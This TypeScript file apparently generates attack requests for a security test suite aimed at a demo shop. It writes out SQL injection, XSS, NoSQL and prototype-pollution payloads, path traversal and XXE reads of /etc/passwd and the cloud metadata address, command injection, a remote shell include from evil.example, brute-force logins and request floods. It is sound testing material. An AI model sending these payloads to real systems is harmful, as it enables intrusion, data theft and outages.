// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are what other languages take for placeholders.
import { type Author, createAuthor, type Draft, type Extra, encode } from "./draft.ts";

/**
 * The cases of the upstream attack suites (BEHAVIOUR section 7.2), carried over to this shop's routes. Each record names its case in
 * `suite_test`. Only `header_probe` and `header_variations` come with the agents of tools; the other cases come as browsers and programs.
 */
export function suiteAttacks(): Draft[] {
  return [
    ...guesses(),
    ...probes(),
    ...headerCases(),
    ...bursts(),
    ...injections(),
    ...topTen(),
    ...pathsAndMethods(),
    ...guide(),
    ...guideInputs(),
    ...foreign(),
  ];
}

const classes = {
  guess: createAuthor("brute-force"),
  stuff: createAuthor("credential-stuffing"),
  probe: createAuthor("probe"),
  scanner: createAuthor("scanner"),
  header: createAuthor("header"),
  flood: createAuthor("flood"),
  sql: createAuthor("sqli"),
  xss: createAuthor("xss"),
  nosql: createAuthor("nosqli"),
  pollution: createAuthor("prototype-pollution"),
  traversal: createAuthor("traversal"),
  lfi: createAuthor("lfi"),
  rce: createAuthor("rce"),
  xxe: createAuthor("xxe"),
  method: createAuthor("method"),
  longPath: createAuthor("long-path"),
  protocol: createAuthor("protocol"),
} satisfies Record<string, Author>;

const named = (suite_test: string, extra: Extra = {}): Extra => ({ ...extra, suite_test });

const loginBody = (email: string, password: string) => `email=${encode(email)}&password=${encode(password)}`;

function guesses(): Draft[] {
  const brute = Array.from({ length: 50 }, (_, index) => {
    const password = index === 41 ? "Vespa-1966-rosso" : `password${index}`;
    const found: Extra = index === 41 ? { oracle: "password-found" } : {};
    const extra: Extra = { scenario: "suite-brute-force", from: "chrome", ...found };
    return classes.guess.form("/login", loginBody("sofia.rossi@mail.example", password), named("brute_force", extra));
  });
  const stuffing = Array.from({ length: 40 }, (_, index) => {
    const run = Math.floor(index / 10) + 1;
    const extra = { scenario: `suite-stuffing-${run}`, from: "android" } as const;
    return classes.stuff.form(
      "/login",
      loginBody(`user${run}${index % 10}@mail.example`, `Passw0rd${index}`),
      named("credential_stuffing", extra),
    );
  });
  return [...brute, ...stuffing];
}

function probes(): Draft[] {
  const lying = new Set(["/.env", "/.git/config", "/server-status", "/actuator/env", "/backup.zip"]);
  const paths = [
    "/admin.php",
    "/.env",
    "/.git/config",
    "/../etc/passwd",
    "/wp-login.php",
    "/phpmyadmin/",
    "/config.php",
    "/server-status",
    "/actuator/env",
    "/api/internal",
    "/backup.zip",
    "/.well-known/security.txt",
  ];
  return paths.map((path) =>
    classes.probe.get(
      path,
      named("path_probe", { scenario: "suite-path-probe", from: "firefox", ...(lying.has(path) ? { oracle: "exposed-file" } : {}) }),
    ),
  );
}

function headerCases(): Draft[] {
  const agents = [
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "curl/8.5.0",
    "python-requests/2.32.3",
  ];
  return [
    classes.header.get(
      "/",
      named("header_probe", {
        from: "bare",
        headers: { "user-agent": agents[0] ?? "", "x-scanner": "probe", "x-forwarded-for": "127.0.0.1" },
      }),
    ),
    ...agents.map((agent) =>
      classes.header.get(
        "/",
        named("header_variations", { from: "bare", headers: { "user-agent": agent, accept: "*/*", "accept-encoding": "" } }),
      ),
    ),
  ];
}

function bursts(): Draft[] {
  const burst = Array.from({ length: 30 }, () =>
    classes.flood.get("/", named("burst", { scenario: "suite-burst", concurrency: 30, from: "chrome" })),
  );
  const mixed = Array.from({ length: 40 }, (_, index) => {
    const path = ["/", "/products", "/login", "/products?page=2"][index % 4] ?? "/";
    return classes.flood.get(path, named("burst_mixed", { scenario: "suite-burst-mixed", concurrency: 40, from: "safari" }));
  });
  return [...burst, ...mixed];
}

function injections(): Draft[] {
  const rows = { oracle: "hidden-rows" } as const;
  return [
    classes.sql.get(`/products?category=${encode("' OR '1'='1' -- ")}`, named("query_injection", rows)),
    classes.xss.get("/search?q=%3Cscript%3Ealert(61001)%3C%2Fscript%3E", named("query_injection", { oracle: "markup", proof: "61001" })),
    classes.sql.get(`/product/${encode("1; WAITFOR DELAY '0:0:5'--")}`, named("query_injection", { oracle: "sql-delay" })),
  ];
}

function topTen(): Draft[] {
  const suite = "owasp_top10";
  return [
    classes.sql.get(`/search?q=${encode("' UNION SELECT id,email,password,role,1 FROM users--")}`, named(suite, { oracle: "hidden-rows" })),
    classes.xss.get(`/search?q=${encode("<img src=x onerror=alert(61002)>")}`, named(suite, { oracle: "markup", proof: "61002" })),
    classes.nosql.json("/api/login", { email: { $ne: null }, password: { $ne: null } }, named(suite, { oracle: "forged-login" })),
    classes.pollution.json("/api/basket", '{"product":1,"__proto__":{"isAdmin":true}}', named(suite, { oracle: "polluted" })),
    classes.nosql.get(`/api/products?filter=${encode('{"released":{"$ne":true}}')}`, named(suite, { oracle: "hidden-rows" })),
    classes.header.get("/whoami", named(suite, { headers: { "x-forwarded-for": "127.0.0.1" } })),
    classes.header.get("/admin", named(suite, { headers: { "x-forwarded-for": "127.0.0.1" }, oracle: "admin-page" })),
    classes.probe.get("/.env", named(suite, { oracle: "exposed-file" })),
    classes.probe.get("/swagger.json", named(suite)),
    classes.probe.get("/api-docs", named(suite)),
    classes.xss.json(
      "/api/reviews",
      { product: 20, name: "Mo", text: "<script>alert(61003)</script>" },
      named(suite, { scenario: "suite-top-ten-review" }),
    ),
    classes.xss.get(
      "/reviews?product=20",
      named(suite, { scenario: "suite-top-ten-review", oracle: "markup", proof: "61003", look: true }),
    ),
    classes.traversal.get("/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd", named(suite, { oracle: "secret-file" })),
    classes.protocol.get("/login?email=admin%40harbour-pine.example&password=admin", named(suite)),
    classes.guess.form("/login", loginBody("admin@harbour-pine.example", "admin"), named(suite)),
    classes.sql.form("/login", loginBody("admin@harbour-pine.example' OR '1'='1", "x"), named(suite, { oracle: "forged-login" })),
    classes.sql.form("/login", loginBody("' OR '1'='1'--", "x"), named(suite, { oracle: "forged-login" })),
  ];
}

function pathsAndMethods(): Draft[] {
  const json = { "content-type": "application/json" };
  return [
    classes.longPath.get(`/${"a".repeat(2048)}`, named("long_path")),
    classes.method.send("PUT", "/api/", "{}", named("method_probe", { headers: json })),
    classes.method.send("DELETE", "/api/", null, named("method_probe")),
    classes.method.send("PATCH", "/api/", "{}", named("method_probe", { headers: json })),
  ];
}

/** The configuration, identity and authentication cases of the testing guide. */
function guide(): Draft[] {
  const admins = ["/admin", "/admin/", "/administrator/", "/admin/login", "/manage/"];
  return [
    ...admins.map((path) => classes.scanner.get(path, named("wstg_conf_05", { scenario: "suite-conf-05", from: "edge" }))),
    ...["TRACE", "TRACK", "DEBUG"].map((method) =>
      classes.method.send(method, "/", null, named("wstg_conf_06", method === "TRACE" ? { oracle: "echoed-request" } : {})),
    ),
    classes.guess.form("/login", loginBody("admin@harbour-pine.example", "password"), named("wstg_athn_02")),
    classes.guess.form("/login", loginBody("admin", "admin"), named("wstg_athn_02")),
    classes.sql.form("/login", loginBody("admin@harbour-pine.example'--", "x"), named("wstg_athn_04", { oracle: "forged-login" })),
    classes.sql.form("/login", loginBody("x", "' OR 1=1--"), named("wstg_athn_04", { oracle: "forged-login" })),
    classes.traversal.get("/download?file=../../../../etc/passwd", named("wstg_athz_01", { oracle: "secret-file" })),
    classes.traversal.get("/download?file=..%252f..%252fconfig%252fsecret.yml", named("wstg_athz_01", { oracle: "secret-file" })),
    classes.traversal.get("/download?file=..%5c..%5c..%5c..%5cwindows%5cwin.ini", named("wstg_athz_01", { oracle: "secret-file" })),
    classes.guess.form(
      "/login",
      loginBody("admin@harbour-pine.example", "certainly-wrong"),
      named("wstg_idnt_04", { scenario: "suite-idnt-04" }),
    ),
    classes.guess.form(
      "/login",
      loginBody("nobody@harbour-pine.example", "certainly-wrong"),
      named("wstg_idnt_04", { scenario: "suite-idnt-04" }),
    ),
  ];
}

/** The input validation and error handling cases of the testing guide. */
function guideInputs(): Draft[] {
  const entity = (address: string) => `<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "${address}">]><p><name>&x;</name></p>`;
  const reads = { oracle: "secret-file" } as const;
  const runs = { oracle: "shell-output" } as const;
  const found = (number: number) => ({ oracle: "markup", proof: String(number) }) as const;
  return [
    classes.xss.get(`/search?q=${encode("<script>alert(61011)</script>")}`, named("wstg_inpv_01_02", found(61011))),
    classes.xss.form(
      "/reviews",
      `product=21&name=Mo&text=${encode("<svg onload=alert(61012)>")}`,
      named("wstg_inpv_01_02", { scenario: "suite-inpv-02" }),
    ),
    classes.xss.get("/product/21", named("wstg_inpv_01_02", { scenario: "suite-inpv-02", ...found(61012), look: true })),
    classes.xss.get(`/search?q=${encode('"><img src=x onerror=alert(61013)>')}`, named("wstg_inpv_01_02", found(61013))),
    classes.sql.get("/products?category=books&category=%27+OR+1%3D1--", named("wstg_inpv_04", { oracle: "hidden-rows" })),
    classes.protocol.get("/redirect?to=/products&to=//evil.example", named("wstg_inpv_04")),
    classes.sql.get(`/products?category=${encode("' OR 1=1--")}`, named("wstg_inpv_05", { oracle: "hidden-rows" })),
    classes.sql.get(
      `/products?category=${encode("' UNION SELECT 1,email,password,4,5 FROM users--")}`,
      named("wstg_inpv_05", { oracle: "hidden-rows" }),
    ),
    classes.sql.get(`/product/${encode("1;WAITFOR DELAY '00:00:05'")}`, named("wstg_inpv_05", { oracle: "sql-delay" })),
    classes.xxe.xml("/import", entity("file:///etc/passwd"), named("wstg_inpv_07", { oracle: "entity-result" })),
    classes.xxe.xml("/import", entity("http://169.254.169.254/latest/meta-data/"), named("wstg_inpv_07", { oracle: "entity-result" })),
    classes.lfi.get("/download?file=php://filter/convert.base64-encode/resource=../../server.js", named("wstg_inpv_11", reads)),
    classes.lfi.send(
      "POST",
      "/download?file=php://input",
      "<?php system('id'); ?>",
      named("wstg_inpv_11", { ...runs, headers: { "content-type": "text/plain" } }),
    ),
    classes.lfi.get("/download?file=http://evil.example/shell.txt", named("wstg_inpv_11")),
    classes.rce.get(`/ping?host=${encode("127.0.0.1; cat /etc/passwd")}`, named("wstg_inpv_12", runs)),
    classes.rce.get(`/ping?host=${encode("127.0.0.1 | id")}`, named("wstg_inpv_12", runs)),
    classes.rce.get(`/ping?host=${encode("$(whoami)")}`, named("wstg_inpv_12", runs)),
    classes.protocol.json("/api/login", '{"email": "a@b.example", "password": ', named("wstg_errh_01", { expectDirect: 400 })),
    classes.sql.get("/product/1'", named("wstg_errh_01", { oracle: "sql-error" })),
  ];
}

/** The cases that the suite sends to PHP sites: a JavaScript shop is asked for them all the same. */
function foreign(): Draft[] {
  const paths = [
    "/index.php.bak",
    "/config.php.bak",
    "/wp-config.php.bak",
    "/phpinfo.php",
    "/info.php",
    "/adminer.php",
    "/phpmyadmin/index.php",
    "/vendor/composer/installed.json",
    "/composer.json",
    "/storage/logs/laravel.log",
    "/xmlrpc.php",
    "/wp-admin/admin-ajax.php",
  ];
  const lying = new Set(["/config.php.bak", "/wp-config.php.bak", "/phpinfo.php"]);
  const included = [
    "../../../../etc/passwd",
    "....//....//....//....//etc/passwd",
    "php://filter/convert.base64-encode/resource=../../.env",
    "/etc/passwd%00",
    "file:///etc/shadow",
    "expect://id",
  ];
  const statements = [
    "1 UNION SELECT 1,secret,3,4,5 FROM vault",
    "1 OR 1=1",
    "1 AND sleep(3)=0",
    "1;SELECT id,email,password,4,5 FROM users",
  ];
  const commands = ["x;system('id')", "x;id", "`id`", "x|cat /etc/passwd"];
  return [
    ...paths.map((path) =>
      classes.probe.get(
        path,
        named("php_path_probe", { scenario: "suite-php-probe", from: "go", ...(lying.has(path) ? { oracle: "exposed-file" } : {}) }),
      ),
    ),
    ...included.map((name) =>
      classes.lfi.get(
        `/download?file=${name}`,
        named("php_lfi_probe", { oracle: name.startsWith("expect") ? "shell-output" : "secret-file" }),
      ),
    ),
    ...statements.map((text) =>
      classes.sql.get(
        `/product/${encode(text)}`,
        named("php_sqli_probe", { oracle: text.includes("sleep") ? "sql-delay" : "hidden-rows" }),
      ),
    ),
    ...commands.map((text, index) =>
      classes.rce.get(`/ping?host=${encode(text)}`, named("php_rce_probe", index === 0 ? {} : { oracle: "shell-output" })),
    ),
    ...Array.from({ length: 60 }, () =>
      classes.flood.get("/", named("php_burst", { scenario: "suite-php-burst", concurrency: 20, from: "firefox" })),
    ),
  ];
}
